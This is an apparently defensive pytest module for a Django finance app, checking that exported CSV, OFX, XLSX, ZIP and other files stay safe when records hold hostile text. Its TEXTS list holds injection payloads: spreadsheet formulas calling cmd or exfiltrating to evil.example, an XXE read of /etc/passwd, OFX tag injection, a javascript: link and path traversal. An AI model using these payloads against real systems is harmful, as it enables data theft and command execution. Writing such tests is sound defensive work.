"""Files exported from an organization with hostile texts are safe to open and keep their content."""

import io
import re
from collections.abc import Container, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from django.contrib.admin import site
from django.core.management import call_command
from django.test import Client

from finance import exports
from people.audit import Act, record
from reconciliation.converting.forms import FORMS as CONVERTED
from reconciliation.converting.forms import OF_PROGRAMS
from reconciliation.models import StatementImport
from reconciliation.storage import archive
from tests.addresses import reverse
from tests.hostile.downloads import AS_SENT, FORMS, addresses
from tests.hostile.files import DIVIDERS, LOOKS, csv_file, wrong_with
from tests.hostile.suite import whole
from tests.pipeline.papers import JANUARY
from tests.tenants.routes import ROUTES
from tests.tenants.tenant import Tenant, a_tenant
from tests.world import booked

pytestmark = pytest.mark.django_db
TEXTS = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "x;=1+1",
    'x";"=1+1";"',
    "x\t=1+1|=2",
    "\t=1+1",
    " \n=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "</MEMO></STMTTRN><STMTTRN><TRNAMT>1.00</TRNAMT><FITID>x</FITID></STMTTRN>",
    "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;&#0;",
    "<a href='javascript:alert(1)'>x</a><img src='http://evil.example/x'/><para>",
    "\N{RIGHT-TO-LEFT OVERRIDE}fdp.exe",
    "../../../etc/passwd",
    "..\\..\\windows\\evil",
)
CASES = TEXTS if whole() else TEXTS[::4]
Place = tuple[str, int]
"""An address: the name of its route, and its number among the addresses of that route."""
NAMED = re.compile(r'attachment; filename="([\w.-]+)"')


@dataclass(frozen=True, slots=True)
class Given:
    """A file from an address: its name and its content."""

    name: str
    content: bytes


def a_hostile_organization(text: str) -> Tenant:
    """Return a tenant with several hostile entries: among others, one is first and one is last in a row."""
    tenant = a_tenant("ours", text)
    kept = archive.keep(tenant.organization, JANUARY.pdf())
    StatementImport.objects.of(tenant.organization).filter(stored_as="nowhere").update(stored_as=kept)
    for number, words in enumerate((text, f"{text} {text}", f"Rent {text}")):
        booked(tenant.account, 7 + number, "-1.25", words, external_id=f"{text}{number}", reference=text[:200], number=text[:30])
    record(tenant.organization, tenant.owner, Act.VIEWED, tenant.account, said=text)
    return tenant


def asked_of(tenant: Tenant, chosen: Container[Place]) -> Iterator[tuple[Place, Any]]:
    """Yield the chosen addresses of a tenant with the answers to the tenant's owner."""
    client = Client()
    client.force_login(tenant.owner)
    for route in ROUTES:
        for number, address in enumerate(addresses(route, tenant)):
            if (route.name, number) in chosen:
                yield (route.name, number), client.get(address)


@pytest.fixture(scope="module")
def giving(module_rows: None) -> set[Place]:
    """The addresses that give out a file, asked for by an organization without hostile texts."""
    tenant = a_tenant("plain", "Plain")
    every = {(route.name, number) for route in ROUTES for number, _ in enumerate(addresses(route, tenant)) if route.name not in AS_SENT}
    return {place for place, answer in asked_of(tenant, every) if "attachment" in answer.headers.get("Content-Disposition", "")}


def files_of(tenant: Tenant, giving: Container[Place]) -> Iterator[Given]:
    """Yield the answer of each address that gives out a file, and of each action of the administration."""
    for _, answer in asked_of(tenant, giving):
        yield given(answer)
    client = Client()
    tenant.owner.is_staff = True
    tenant.owner.save()
    client.force_login(tenant.owner)
    for action in site.get_model_admin(StatementImport).actions or ():
        StatementImport.objects.of(tenant.organization).update(status=StatementImport.Status.REVIEW)
        answer = client.post(
            reverse("admin:reconciliation_statementimport_changelist"),
            {"action": action, "_selected_action": [str(tenant.statement_import.pk)]},
        )
        if "attachment" in answer.headers.get("Content-Disposition", ""):
            yield given(answer)


def given(answer: Any) -> Given:
    named = NAMED.fullmatch(answer["Content-Disposition"])
    assert named, answer["Content-Disposition"]
    return Given(named[1], answer.getvalue())


@pytest.mark.parametrize("text", CASES)
def test_every_file_is_safe_to_open(giving: set[Place], db: None, text: str) -> None:
    found = list(files_of(a_hostile_organization(text), giving))

    wrong = [f"{file.name}: {said}" for file in found for said in wrong_with(file.name, file.content)]
    assert wrong == []
    assert {file.name.rpartition(".")[2] for file in found} == {
        "csv",
        "ofx",
        "pdf",
        "json",
        "jsonl",
        "zip",
        "beancount",
        "hledger",
        "journal",
        "qbo",
        "qif",
        "sta",
        "xlsx",
        "xml",
    }
    assert {"statements.csv", "reconciliations.zip", "evidence.zip"} <= {file.name for file in found}


@pytest.mark.parametrize("text", CASES)
def test_the_archive_of_everything_is_safe_to_open(text: str, tmp_path: Any) -> None:
    a_hostile_organization(text)
    call_command("export_organization", "ours", str(tmp_path / "all.zip"), stdout=io.StringIO())

    assert list(wrong_with("all.zip", (tmp_path / "all.zip").read_bytes())) == []


@pytest.mark.parametrize("text", [text for text in TEXTS if text[0] in "=+-@\t"])
def test_the_test_detects_a_formula(text: str) -> None:
    """Or the tests above would find every file safe."""
    written = '"' + text.replace('"', '""') + '"\n'

    assert list(csv_file(written.encode())) != []
    assert all(list(csv_file(f"Rent{divider}=1+1\n".encode())) for divider in DIVIDERS)


def test_every_form_of_a_file_has_a_way_to_be_looked_at() -> None:
    named = {name: form.ending for name, form in exports.FORMS.items()}
    named |= {name: form.ending for name, form in {**CONVERTED, **OF_PROGRAMS}.items()}
    endings = {named.get(form, form).rpartition(".")[2] for form in FORMS}

    assert {f".{ending}" for ending in endings} <= set(LOOKS)
